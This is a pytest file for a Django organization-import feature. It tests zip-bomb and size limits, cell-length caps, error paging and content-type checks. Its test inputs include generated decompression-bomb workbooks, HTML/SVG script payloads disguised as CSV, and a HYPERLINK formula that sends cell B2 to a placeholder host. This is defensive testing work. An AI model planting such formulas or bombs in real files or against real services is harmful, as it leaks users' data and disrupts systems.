"""An import file is judged by its
content and held to size limits before anything parses it; a refused file stores
only its first 500 errors, with their count, and the job page pages through them.

The files are built here, cheaply: the 50 MB cell is written straight into a zip
member, so the test holds ~56 KB, and the check refuses it after reading ~330 KB.
"""

import csv
import io
import zipfile
from xml.sax.saxutils import escape

import pytest
from django.core.files.base import ContentFile
from django.core.management import CommandError, call_command
from django.test import override_settings
from django.urls import reverse

from core import roles
from core.imports import import_job_run
from core.models import ImportJob
from core.tasks import run_import_job
from incubator.models import Organization
from tests.incubator.test_organization_import import good_row
from tests.support.spreadsheets import ORG_HEADERS, csv_bytes, upload, xlsx_bytes

pytestmark = pytest.mark.django_db

IMPORT = reverse("incubator_organization_import")
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)
HEADER_ROW = (
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>\xe5\x90\x8d\xe7\xa7\xb0</t></is></c>'
    b"</row>"
)  # 名称


def workbook_with_sheet(write_sheet):
    """A real .xlsx (made by pandas) whose first sheet is replaced by what
    `write_sheet(stream)` writes, deflated as it is written."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["甲"]], headers=["名称"])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with archive.open(info.filename, "w", force_zip64=True) as stream:
                    write_sheet(stream)
            else:
                archive.writestr(info, source.read(info))
    return out.getvalue()


def bomb_cell(megabytes, row=3, column="B"):
    """A workbook whose cell `column``row` holds `megabytes` MB of “A”."""

    def write(stream):
        stream.write(SHEET_HEAD + b"<sheetData>" + HEADER_ROW)
        ref = f"{column}{row}".encode()
        stream.write(b'<row r="%d"><c r="%s" t="inlineStr"><is><t>' % (row, ref))
        block = b"A" * (1024 * 1024)
        for _ in range(megabytes):
            stream.write(block)
        stream.write(b"</t></is></c></row></sheetData></worksheet>")

    return workbook_with_sheet(write)


def _page(client, data, name):
    response = client.post(IMPORT, {"file": upload(name, data)}, follow=True)
    assert response.status_code == 200
    return response.content.decode()


CELL_B3 = "第 3 行“B”列的单元格超过 32,767 个字符（表格单元格的上限），无法导入。"
TOO_MANY_ROWS = "文件超过 100,000 行上限：请拆分为多个文件逐一导入。"


def test_a_50_mb_cell_is_refused_at_upload_naming_its_row_and_column(client_for):
    data = bomb_cell(50)
    assert len(data) < 100_000  # 50 MB of text deflates to ~56 KB
    page = _page(client_for(roles.OPERATOR), data, "社会组织.xlsx")
    assert CELL_B3 in page
    assert ImportJob.objects.count() == 0  # neither a job nor the file is stored
    assert Organization.objects.count() == 0


def test_the_worker_refuses_the_same_file_and_writes_nothing(make_user):
    """The worker path (a job stored before the check existed, or run again)."""
    job = ImportJob.objects.create(
        kind="organizations",
        file=ContentFile(bomb_cell(50), name="bomb.xlsx"),
        original_name="社会组织.xlsx",
        created_by=make_user("op", roles.OPERATOR),
    )
    run_import_job.call(job.pk, "zh-hans")
    job.refresh_from_db()
    assert job.status == ImportJob.Status.FAILED
    assert [e["message"] for e in job.errors] == [CELL_B3]
    assert Organization.objects.count() == 0


@override_settings(IMPORT_MAX_UNCOMPRESSED_SIZE=5 * 1024 * 1024)
def test_a_workbook_unpacking_past_the_limit_is_refused(client_for):
    page = _page(client_for(roles.OPERATOR), bomb_cell(8), "社会组织.xlsx")
    assert "工作簿解压后超过 5 MB 上限，无法导入" in page
    assert ImportJob.objects.count() == 0


def test_a_part_inflating_like_a_zip_bomb_is_refused(client_for):
    """Two MB of markup that is neither rows nor text: only the ratio gives it away."""

    def write(stream):
        stream.write(SHEET_HEAD + b"<sheetData>" + HEADER_ROW + b"</sheetData>")
        stream.write(b"<a/>" * (512 * 1024) + b"</worksheet>")

    page = _page(client_for(roles.OPERATOR), workbook_with_sheet(write), "a.xlsx")
    assert "工作簿的压缩比异常" in page
    assert "疑为“压缩炸弹”，已拒绝" in page
    assert ImportJob.objects.count() == 0


def test_a_csv_of_200001_bad_rows_is_refused_before_parsing(client_for, tmp_path):
    data = ("名称,类型\n" + "x,y\n" * 200_001).encode()
    page = _page(client_for(roles.OPERATOR), data, "社会组织.csv")
    assert TOO_MANY_ROWS in page
    assert ImportJob.objects.count() == 0
    # The management command reads through the same check.
    path = tmp_path / "社会组织.csv"
    path.write_bytes(data)
    with pytest.raises(CommandError):
        call_command("import_organizations", str(path))
    assert Organization.objects.count() == 0


def test_100000_rows_are_within_the_limit(db):
    from core.spreadsheet_files import check_import_limits

    check_import_limits(("名称\n" + "x\n" * 100_000).encode(), "csv")


@pytest.mark.parametrize(
    "rows",
    [
        # <dimension ref> says two rows; there are 100,002 (the header + 100,001).
        lambda: b'<row r="%d"><c r="A%d"><v>1</v></c></row>',
        # One row, numbered past the limit: calamine would build every row above it.
        None,
    ],
    ids=["counted", "sparse"],
)
def test_an_xlsx_past_the_row_limit_is_refused(client_for, rows):
    def write(stream):
        stream.write(SHEET_HEAD + b'<dimension ref="A1:A2"/><sheetData>' + HEADER_ROW)
        if rows is None:
            stream.write(b'<row r="100002"><c r="A100002"><v>1</v></c></row>')
        else:
            template = rows()
            for number in range(2, 100_003):
                stream.write(template % (number, number))
        stream.write(b"</sheetData></worksheet>")

    page = _page(client_for(roles.OPERATOR), workbook_with_sheet(write), "a.xlsx")
    assert TOO_MANY_ROWS in page
    assert ImportJob.objects.count() == 0


@pytest.mark.parametrize(
    ("name", "column"), [("社会组织.csv", "名称"), ("社会组织.xlsx", "A")]
)
def test_a_cell_one_past_excels_limit_is_refused_with_its_row_and_column(
    client_for, service_fields, name, column
):
    """calamine cuts such a cell to 32,767 characters without a word: without the
    check, a truncated name would be stored. A CSV names the header, a workbook the
    column letter Excel shows."""
    rows = [good_row(1), good_row(2, 名称="社" * 32_768)]
    data = _xlsx(rows) if name.endswith(".xlsx") else _csv(rows)
    page = _page(client_for(roles.OPERATOR), data, name)
    assert (
        f"第 3 行“{column}”列的单元格超过 32,767 个字符（表格单元格的上限），无法导入。"
        in page
    )
    assert Organization.objects.count() == 0


def test_a_long_shared_string_is_refused_naming_the_cell_that_shows_it(db):
    """Excel keeps text in sharedStrings.xml; the refusal still names the cell."""
    from core.spreadsheet_files import ImportFileError, check_import_limits

    def write(stream):
        stream.write(SHEET_HEAD + b"<sheetData>" + HEADER_ROW)
        stream.write(b'<row r="4"><c r="C4" t="s"><v>1</v></c></row>')
        stream.write(b"</sheetData></worksheet>")

    source = zipfile.ZipFile(io.BytesIO(workbook_with_sheet(write)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        archive.writestr(
            "xl/sharedStrings.xml",
            b"<sst><si><t>short</t></si><si><t>"
            + b"&amp;" * 40_000
            + b"</t></si></sst>",
        )
    with pytest.raises(ImportFileError) as refused:
        check_import_limits(out.getvalue(), "xlsx")
    assert str(refused.value) == (
        "第 4 行“C”列的单元格超过 32,767 个字符（表格单元格的上限），无法导入。"
    )


def _xlsx(rows):
    """Written by hand: pandas and openpyxl both cut a cell to 32,767 characters."""
    cells = [list(rows[0]), *(list(row.values()) for row in rows)]

    def write(stream):
        stream.write(SHEET_HEAD + b"<sheetData>")
        for number, values in enumerate(cells, start=1):
            stream.write(b'<row r="%d">' % number)
            for column, value in zip("ABCDEFGHIJKLMNOP", values, strict=False):
                ref = f"{column}{number}".encode()
                text = escape(str(value)).encode()
                stream.write(
                    b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, text)
                )
            stream.write(b"</row>")
        stream.write(b"</sheetData></worksheet>")

    return workbook_with_sheet(write)


def _csv(rows):
    return csv_bytes([list(r.values()) for r in rows], headers=list(rows[0]))


def test_a_refused_file_keeps_its_first_500_errors_and_counts_all(
    client_for, service_fields
):
    """1,200 rows, each with one bad region code: 1,200 errors, 500 stored."""
    client = client_for(roles.OPERATOR)
    rows = [good_row(n, 行政区划代码="123") for n in range(1, 1201)]
    job = ImportJob.objects.create(
        kind="organizations",
        file=ContentFile(_csv(rows), name="bad.csv"),
        original_name="社会组织.csv",
        created_by=client.user,
    )
    job = import_job_run(job, "zh-hans")
    assert job.status == ImportJob.Status.FAILED
    assert (job.error_count, len(job.errors)) == (1200, 500)
    assert [e["row"] for e in job.errors] == list(range(2, 502))
    assert Organization.objects.count() == 0

    url = reverse("core_import_job", args=[job.pk])
    first = client.get(url).content.decode()
    assert "文件有 1200 处错误，未写入任何数据" in first
    assert "共 1200 处错误，显示前 500 处。" in first
    assert "第 1 页，共 5 页" in first
    assert "<td>2</td>" in first and "<td>102</td>" not in first

    second = client.get(url, {"p": 2}).content.decode()
    assert "第 2 页，共 5 页" in second
    assert "<td>102</td>" in second and "<td>201</td>" in second
    assert "<td>101</td>" not in second and "<td>202</td>" not in second


def test_a_job_stored_before_the_count_shows_all_its_errors(make_user):
    """Rows written before the error count existed keep working."""
    job = ImportJob.objects.create(
        kind="organizations",
        file=ContentFile(b"x", name="old.xlsx"),
        original_name="old.xlsx",
        status=ImportJob.Status.FAILED,
        errors=[{"row": n, "column": "名称", "message": "必填"} for n in (2, 3)],
    )
    assert (job.total_errors, job.errors_truncated) == (2, False)


def test_the_command_prints_the_first_500_errors_and_the_count(
    tmp_path, service_fields, capsys
):
    path = tmp_path / "bad.csv"
    path.write_bytes(_csv([good_row(n, 行政区划代码="123") for n in range(1, 601)]))
    with pytest.raises(CommandError, match="600"):
        call_command("import_organizations", str(path))
    err = capsys.readouterr().err
    assert err.count("“123”不是有效的行政区划代码") == 500
    assert "共 600 处错误，显示前 500 处。" in err


# --- the type is judged by content, not by name ---------------------------------

NOT_WORKBOOK = "文件不是 Excel 工作簿（.xlsx），与文件名不符"
NOT_CSV = "文件不是 CSV 文本文件，与文件名不符"


def _zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


DOCX_TYPES = (
    b'<Types><Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("名录.csv", b"<!DOCTYPE html><html><script>alert(1)</script></html>", NOT_CSV),
        (
            "名录.csv",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
            NOT_CSV,
        ),
        ("名录.csv", "名称,类型\n甲\x00,乙\n".encode(), NOT_CSV),
        ("名录.csv", PNG, NOT_CSV),
        ("名录.xlsx", PNG, NOT_WORKBOOK),
        ("名录.xlsx", b"<html><body>not a workbook</body></html>", NOT_WORKBOOK),
        ("名录.xlsx", _zip({"a.txt": b"hello"}), NOT_WORKBOOK),
        (
            "名录.xlsx",
            _zip({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": b"<w/>"}),
            NOT_WORKBOOK,
        ),
        ("名录.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "不被允许"),
        ("名录.html", b"<html></html>", "不被允许"),
    ],
    ids=[
        "html-as-csv",
        "svg-as-csv",
        "nul-in-csv",
        "png-as-csv",
        "png-as-xlsx",
        "html-as-xlsx",
        "zip-as-xlsx",
        "docx-as-xlsx",
        "legacy-xls",
        "html",
    ],
)
def test_an_import_file_is_judged_by_its_content(client_for, name, data, message):
    page = _page(client_for(roles.OPERATOR), data, name)
    assert message in page
    assert ImportJob.objects.count() == 0


@pytest.mark.parametrize(
    ("name", "encoding"),
    [("名录.xlsx", None), ("名录.csv", "utf-8-sig"), ("名录.csv", "gb18030")],
)
def test_real_spreadsheets_pass_the_content_check(name, encoding):
    from core.spreadsheet_files import import_file_kind

    rows = [["甲", "社会团体"]]
    headers = ORG_HEADERS[:1] + ["类型"]
    data = (
        xlsx_bytes(rows, headers)
        if encoding is None
        else csv_bytes(rows, headers, encoding)
    )
    assert import_file_kind(data, name) == name.rsplit(".", 1)[1]


NAME = '=HYPERLINK("http://x.invalid/?"&B2,"详情")'


# --- an exported file imports back ----------------------------------------------


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_an_exported_organization_imports_back_with_its_name(
    client_for, make_organization, service_fields, export
):
    organization = make_organization(name=NAME)
    uscc = organization.uscc
    client = client_for(roles.OPERATOR)
    response = client.get(
        reverse("wagtailsnippets_incubator_organization:list"), {"export": export}
    )
    data = b"".join(
        response.streaming_content
        if hasattr(response, "streaming_content")
        else response
    )
    if export == "csv":
        text = data.decode("utf-8-sig")
        assert ["'" + NAME] in [row[:1] for row in csv.reader(io.StringIO(text))]
    Organization.objects.all().delete()

    page = client.post(
        reverse("incubator_organization_import"),
        {"file": upload(f"organizations.{export}", data)},
        follow=True,
    ).content.decode()
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.SUCCEEDED, (job.errors, page)
    assert list(Organization.objects.values_list("name", "uscc")) == [(NAME, uscc)]
